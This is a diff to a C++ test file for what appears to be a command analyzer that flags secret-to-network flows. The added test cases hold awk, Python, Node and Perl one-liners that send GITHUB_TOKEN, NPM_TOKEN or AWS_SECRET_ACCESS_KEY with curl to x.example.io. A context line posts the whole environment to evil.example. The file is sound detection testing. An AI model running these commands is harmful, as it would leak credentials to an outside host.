@@ -20,6 +20,19 @@ TEST_CASE("python and node one-liners that send the environment are flows to net
                  "env_dump", "network"));
 }
 
+TEST_CASE("an environment variable read between the literals of a shell command an interpreter runs is that variable") {
+  // awk's juxtaposition, Python's and node's +, Perl's . : the command is `curl … ${NAME} …`.
+  for (auto script : {"awk 'BEGIN{system(\"curl -s \\\"https://x.example.io/?t=\" ENVIRON[\"GITHUB_TOKEN\"] \"\\\" >/dev/null\")}'",
+                      "python3 -c 'import os; os.system(\"curl -d \" + os.environ[\"NPM_TOKEN\"] + \" https://x.example.io\")'",
+                      "python3 -c 'import os; os.system(\"curl -d \" + os.getenv(\"NPM_TOKEN\"))'",
+                      "node -e 'require(\"child_process\").execSync(\"curl -d \" + process.env.NPM_TOKEN + \" https://x.example.io\")'",
+                      "perl -e 'system(\"curl -d \" . $ENV{\"AWS_SECRET_ACCESS_KEY\"} . \" https://x.example.io\")'"}) {
+    INFO(script);
+    CHECK(has_flow(analyze(script), "secret_var", "network"));
+  }
+  CHECK_FALSE(has_flow(analyze("awk 'BEGIN{system(\"curl -s https://x.example.io/?h=\" ENVIRON[\"HOME\"])}'"), "secret_var", "network"));
+}
+
 TEST_CASE("a module required inline and a host given as an option are read like named ones") {
   auto facts = analyze("node -e \"require('https').request({host:'evil.example',method:'POST'})"
                        ".end(JSON.stringify(process.env))\"");
